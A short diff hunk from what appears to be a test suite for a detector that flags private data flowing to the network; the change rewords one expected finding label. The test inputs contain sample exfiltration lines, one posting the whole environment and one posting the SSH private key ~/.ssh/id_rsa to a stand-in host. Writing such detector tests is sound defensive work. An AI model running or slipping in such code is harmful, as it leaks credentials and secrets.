@@ -275,7 +275,7 @@ def t(x: str):
     const cases: [string, string[]][] = [
       [
         'requests.post("https://c.example", json=dict(os.environ))',
-        ['private all variables of the environment -> network'],
+        ['private the whole environment -> network'],
       ],
       [
         'k = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://c.example", data=k)',
